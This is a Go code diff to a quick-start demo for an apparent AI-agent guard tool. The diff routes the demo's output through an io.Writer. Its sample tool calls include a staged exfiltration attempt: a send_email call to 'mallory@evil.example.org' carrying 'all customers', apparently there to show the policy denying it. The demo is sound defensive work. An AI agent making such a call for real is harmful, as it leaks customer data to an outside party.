@@ -12,6 +12,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
 	"strings"
@@ -40,13 +41,13 @@ type emailArgs struct {
 }
 
 func main() {
-	if err := run(context.Background()); err != nil {
+	if err := run(context.Background(), os.Stdout); err != nil {
 		fmt.Fprintln(os.Stderr, "quickstart:", err)
 		os.Exit(1)
 	}
 }
 
-func run(ctx context.Context) error {
+func run(ctx context.Context, w io.Writer) error {
 	dir, err := os.MkdirTemp("", "agentguard-quickstart-")
 	if err != nil {
 		return err
@@ -128,10 +129,10 @@ func run(ctx context.Context) error {
 		{"send_email", `{"to":"billing@partner.example.net","subject":"Refund 42","body":"Please process."}`},
 		{"send_email", `{"to":"mallory@evil.example.org","subject":"data","body":"all customers"}`},
 	}
-	fmt.Println("agentguard quick start — policy revision", p.Revision()[:12])
+	fmt.Fprintln(w, "agentguard quick start — policy revision", p.Revision()[:12])
 	for _, c := range calls {
 		out, err := g.Call(bot, c.tool, json.RawMessage(c.args))
-		fmt.Println(describe(c.tool, out, err))
+		fmt.Fprintln(w, describe(c.tool, out, err))
 	}
 
 	// 6. Close the log and verify the whole chain.
@@ -147,7 +148,7 @@ func run(ctx context.Context) error {
 	if err != nil {
 		return fmt.Errorf("audit log does not verify: %w", err)
 	}
-	fmt.Printf("\naudit log verified: %d records (%d decisions: %d allowed, %d denied; %d outcomes)\n",
+	fmt.Fprintf(w, "\naudit log verified: %d records (%d decisions: %d allowed, %d denied; %d outcomes)\n",
 		sum.Records, sum.Decisions, sum.Allowed, sum.Denied, sum.Outcomes)
 	return nil
 }
